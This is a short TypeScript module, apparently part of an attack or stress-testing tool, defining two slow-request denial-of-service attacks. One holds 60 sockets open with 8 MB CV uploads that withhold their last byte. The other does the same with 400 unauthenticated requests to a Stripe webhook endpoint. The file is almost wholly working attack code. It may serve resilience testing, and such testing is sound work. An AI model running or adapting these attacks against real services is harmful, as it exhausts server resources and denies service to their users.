import type { Attack } from '../attack.ts'
import { head, keepSockets } from '../sockets.ts'

const body = Buffer.alloc(7_999_990, 'a')

/** 60 uploads of 8 MB that withhold their last byte. */
export const withheldBytes: Attack = (target) =>
  keepSockets(target, {
    sockets: 60,
    begin: (socket, index) => {
      const { token = '' } = target.candidates[index % target.candidates.length] ?? {}
      const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` }
      socket.write(head('POST /api/users/upload-cv-file', { ...headers, 'Content-Length': body.length + 1 }))
      socket.write(body)
    },
  })

const notice = Buffer.alloc(500_000, 'a')

/** 400 notices of payments, for which nobody needs a token, that withhold their last byte. */
export const withheldNotices: Attack = (target) =>
  keepSockets(target, {
    sockets: 400,
    begin: (socket) => {
      const headers = { 'Content-Type': 'application/json', 'Content-Length': notice.length + 1 }
      socket.write(head('POST /api/stripe/webhook', headers))
      socket.write(notice)
    },
  })
